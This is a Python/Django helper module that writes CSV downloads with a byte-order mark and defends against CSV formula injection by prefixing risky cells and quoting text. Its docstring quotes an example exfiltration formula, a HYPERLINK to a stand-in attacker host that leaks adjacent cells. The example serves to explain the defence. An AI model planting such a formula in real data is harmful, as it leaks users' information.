"""Every CSV the project writes (staff downloads) goes through here.

UTF-8 with a byte-order mark, so that spreadsheet programs (Excel on Windows above all) read
Cyrillic correctly instead of guessing a legacy code page.

Cells hold text that visitors, buyers and sellers typed (a "not helpful" comment, a store's
name), and a spreadsheet runs a cell that starts with "=", "+", "-" or "@" as a formula (a tab or
a carriage return in front is skipped by some of them): `=HYPERLINK("http://evil.example/?"&A1)`
sends the neighbouring cells away when clicked. Such a cell gets a leading apostrophe, which
spreadsheets read as "this is text" (OWASP's advice for CSV injection). Numbers are written as
numbers: -5 is not a formula. Every text cell is quoted too: Excel in a Russian locale splits a
CSV on ";", and an unquoted `ок;=1+1` would become two cells, the second a live formula.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse

BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """What one cell holds in the file: a number as it is, anything else as inert text."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int: written as True/False, inert
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    buffer = io.StringIO()
    # QUOTE_NONNUMERIC quotes every cell but numbers (it treats anything with __float__ as one,
    # which csv_cell leaves only to int, float and Decimal).
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return BOM + buffer.getvalue()


def csv_response(filename: str, rows: Iterable[Sequence[object]]) -> HttpResponse:
    response = HttpResponse(csv_text(rows).encode("utf-8"), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
